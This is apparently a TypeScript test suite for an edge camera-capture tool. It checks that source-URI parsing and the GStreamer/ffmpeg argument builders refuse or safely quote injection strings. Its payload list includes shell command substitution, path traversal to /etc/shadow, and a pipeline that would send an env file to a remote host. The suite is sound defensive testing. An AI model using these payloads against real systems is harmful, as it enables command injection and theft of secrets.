// Source URIs against hostile input: the grammar per scheme refuses injection strings for every
// scheme, and, independently, the command builders keep any value inside its one argv element or
// quoted property, checked with the real gst-launch-1.0 and ffmpeg.

import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test } from 'node:test';
import { gstLaunchArgs, quoteGstString } from '../../src/capture/gst-pipeline.js';
import { captureCommand, isSubprocessSpec } from '../../src/capture/pipelines.js';
import { parseSourceUri, redactSourceUri, type SourceSpec } from '../../src/capture/uri.js';
import { validateConfig } from '../../src/config/load.js';
import { makeTempDir } from '../helpers/tmp.js';

/** Payloads that break out of a value in GStreamer, ffmpeg or a shell. */
const INJECTIONS = [
  '%20!%20fakesink%20filesrc%20location=/etc/edgeseg/edgeseg.env%20!%20tcpclientsink%20host=10.0.0.1',
  ' ! filesink location=/tmp/x',
  '"!filesink location="/tmp/x',
  "';touch /tmp/p;'",
  ';touch /tmp/p',
  '$(touch /tmp/p)',
  '`touch /tmp/p`',
  '|touch /tmp/p',
  '\\"',
  '\nfilesink',
  '\u0000',
  '../../etc/shadow',
  'concat:/etc/passwd|/etc/shadow',
];

const SCHEME_PREFIXES = [
  'csi://',
  'v4l2://',
  'rtsp://cam.local/',
  'rtsps://cam.local:322/',
  'rtsp://',
  'file:///var/lib/',
  'dir:///var/lib/',
  'videotest://',
  'test://',
  '/var/lib/frames/',
];

test('every scheme has its grammar: good URIs parse to a typed spec', () => {
  const good: Array<[string, Partial<SourceSpec>]> = [
    ['csi://0', { scheme: 'csi', sensorId: 0 }],
    ['csi://15', { scheme: 'csi', sensorId: 15 }],
    ['v4l2:///dev/video2', { scheme: 'v4l2', device: '/dev/video2' }],
    ['v4l2://', { scheme: 'v4l2', device: '/dev/video0' }],
    ['v4l2:///dev/v4l/by-id/usb-Logitech_C920-video-index0', { scheme: 'v4l2' }],
    ['rtsp://cam.local/stream', { scheme: 'rtsp', host: 'cam.local', path: '/stream' }],
    [
      'rtsp://admin:pa%24%24@10.0.0.5:554/cam/realmonitor?channel=1&subtype=0',
      { scheme: 'rtsp', password: 'pa$$', port: 554, query: 'channel=1&subtype=0' },
    ],
    ['rtsps://[fe80::1]:322/live', { scheme: 'rtsps', host: '[fe80::1]' }],
    ['file:///var/lib/edgeseg/drive-1.mp4', { scheme: 'file', path: '/var/lib/edgeseg/drive-1.mp4' }],
    ['dir:///var/lib/edgeseg/frames', { scheme: 'images', pattern: '/var/lib/edgeseg/frames' }],
    ['frames/*.png', { scheme: 'images', pattern: 'frames/*.png' }],
    ['videotest://', { scheme: 'videotest' }],
    ['test://synthetic-road', { scheme: 'test' }],
  ];
  for (const [uri, expected] of good) {
    const spec = parseSourceUri(uri) as unknown as Record<string, unknown>;
    for (const [key, value] of Object.entries(expected)) assert.equal(spec[key], value, `${uri}: ${key}`);
  }
});

test('injection strings are refused for every scheme, by the grammar and by the config schema', () => {
  let refused = 0;
  for (const prefix of SCHEME_PREFIXES) {
    for (const payload of INJECTIONS) {
      const uri = `${prefix}${payload}`;
      assert.throws(() => parseSourceUri(uri), /source/, `accepted: ${JSON.stringify(uri)}`);
      assert.throws(
        () =>
          validateConfig(
            { device_id: 'x', source: uri, model: 'm', mqtt: { url: 'mqtt://127.0.0.1' } },
            'test',
          ),
        /source:/,
      );
      refused++;
    }
  }
  assert.equal(refused, SCHEME_PREFIXES.length * INJECTIONS.length);
  for (const uri of [
    'http://cam/x',
    'rtsp://cam/x#frag',
    'rtsp://cam:70000/x',
    'csi://16',
    'v4l2:///etc/passwd',
    'file://host/x',
    'rtsp://a b/x',
    'RTSP://user@cam/x y',
  ]) {
    assert.throws(() => parseSourceUri(uri), /source/, uri);
  }
});

test('errors never repeat camera credentials', () => {
  try {
    parseSourceUri('rtsp://admin:hunter22@cam.local/x y');
    assert.fail('accepted');
  } catch (error) {
    assert.doesNotMatch((error as Error).message, /hunter22/);
  }
  assert.equal(redactSourceUri('rtsp://admin:hunter22@cam.local/x'), 'rtsp://***@cam.local/x');
});

test('GStreamer: a hostile value stays one literal property in the real gst-launch-1.0', async () => {
  const dir = await makeTempDir();
  const marker = join(dir, 'pwned');
  // Each value would add a filesink writing the marker if it escaped its property.
  const hostile = [
    `/dev/null" ! filesink location="${marker}`,
    `/dev/null ! filesink location=${marker}`,
    `/dev/null\\" ! filesink location=\\"${marker}`,
    `/dev/null\\`,
  ];
  for (const value of hostile) {
    const args = gstLaunchArgs([
      { factory: 'filesrc', properties: { location: value, 'num-buffers': 1 } },
      { factory: 'fakesink' },
    ]);
    const run = spawnSync('gst-launch-1.0', ['-q', ...args], { encoding: 'utf8', timeout: 20_000 });
    assert.notEqual(run.status, 0, 'the file does not exist, so the pipeline must fail');
    assert.match(run.stderr, /Resource not found|Could not open/, run.stderr);
    assert.doesNotMatch(
      run.stderr,
      /erroneous pipeline|could not link/,
      `${value}: the value was parsed as pipeline text`,
    );
    assert.equal(existsSync(marker), false, `${value}: a filesink ran`);
  }
  // And a path that needs the quoting really reaches filesrc intact.
  const odd = join(dir, 'a b!c"d.raw');
  await writeFile(odd, Buffer.alloc(16));
  const ok = spawnSync(
    'gst-launch-1.0',
    [
      '-q',
      ...gstLaunchArgs([{ factory: 'filesrc', properties: { location: odd } }, { factory: 'fakesink' }]),
    ],
    { encoding: 'utf8', timeout: 20_000 },
  );
  assert.equal(ok.status, 0, ok.stderr);
  assert.equal(quoteGstString('a"b\\c'), '"a\\"b\\\\c"');
});

test('ffmpeg: a file path can never be read as another protocol', () => {
  // What the grammar would refuse anyway; here the builder alone must hold.
  const spec = { scheme: 'file', path: 'concat:/etc/hostname|/etc/hostname' } as const;
  const { command, args } = captureCommand(spec, 'ffmpeg', { width: 32, height: 32 }, false);
  const run = spawnSync(
    command,
    args.map((arg) => (arg === 'pipe:1' ? '-' : arg)),
    {
      encoding: 'utf8',
      timeout: 20_000,
    },
  );
  assert.notEqual(run.status, 0);
  assert.match(run.stderr, /No such file or directory/, run.stderr);
  assert.ok(args.includes('-protocol_whitelist'));
});

test('every scheme and both backends: each user value is exactly one argv element', () => {
  const size = { width: 64, height: 48 };
  const uris = [
    'v4l2:///dev/video1',
    'rtsp://user:p%22ss@cam.local:8554/live/a?x=1',
    'file:///var/lib/edgeseg/a.mp4',
    'videotest://',
  ];
  for (const uri of uris) {
    const spec = parseSourceUri(uri);
    assert.ok(isSubprocessSpec(spec));
    for (const backend of ['ffmpeg', 'gstreamer'] as const) {
      const { args } = captureCommand(spec, backend, size, true, { username: 'u', password: 'x" ! y' });
      for (const arg of args) assert.doesNotMatch(arg, /^-.*\s/, `${uri} ${backend}: ${arg}`);
      if (backend === 'gstreamer') {
        // Every string property is quoted: a bare " or ! inside a property would start new text.
        for (const arg of args.filter((a) => /^[a-z][a-z0-9-]*=/.test(a))) {
          const value = arg.slice(arg.indexOf('=') + 1);
          assert.ok(
            /^("(\\.|[^"\\])*"|[A-Za-z0-9.-]+)$/.test(value),
            `${backend} property not quoted: ${arg}`,
          );
        }
      }
    }
  }
});
